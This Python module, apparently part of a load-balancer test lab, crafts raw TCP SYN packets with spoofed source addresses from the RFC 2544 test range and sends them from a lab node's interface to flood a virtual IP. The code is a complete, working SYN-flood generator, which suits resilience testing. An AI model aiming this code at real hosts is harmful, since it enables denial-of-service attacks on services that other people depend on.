"""A flood of SYNs from addresses that nobody has, as one machine on the network can send them."""

from __future__ import annotations

import random
import socket
import struct
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv4Network

from lbctl.lab.node import Node

SPOOFED = IPv4Network("198.18.0.0/15")
"""Addresses that are kept for tests (RFC 2544): no node of a lab has a route to them, so no answer goes anywhere."""
_SYN = 0x02


def send_spoofed_syns(node: Node, vip: IPv4Address, *, port: int, to_mac: str, count: int, seed: int) -> int:
    """Send that many from a node, each of a connection of its own; return how many its interface took."""
    link = bytes.fromhex(to_mac.replace(":", "")) + bytes.fromhex(node.mac.replace(":", "")) + b"\x08\x00"
    with node.enter(), socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as raw:
        raw.bind((node.interface, 0))
        return sum(bool(raw.send(link + packet)) for packet in _syns(vip, port=port, count=count, seed=seed))


def _syns(vip: IPv4Address, *, port: int, count: int, seed: int) -> Iterator[bytes]:
    chance = random.Random(seed)
    first, hosts = int(SPOOFED.network_address), SPOOFED.num_addresses
    for _ in range(count):
        source = (first + chance.randrange(1, hosts - 1)).to_bytes(4)
        yield _syn(source, vip.packed, chance.randrange(1024, 65536), port, chance.getrandbits(32))


def _syn(source: bytes, destination: bytes, from_port: int, to_port: int, seq: int) -> bytes:
    """An IPv4 packet with a TCP segment of 20 bytes (RFC 791, RFC 9293)."""
    tcp = struct.pack("!HHIIBBHHH", from_port, to_port, seq, 0, 5 << 4, _SYN, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + _checksum(pseudo + tcp) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + source + destination
    return ip[:10] + _checksum(ip) + ip[12:] + tcp


def _checksum(data: bytes) -> bytes:
    """RFC 1071, of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return (~(total + (total >> 16)) & 0xFFFF).to_bytes(2)
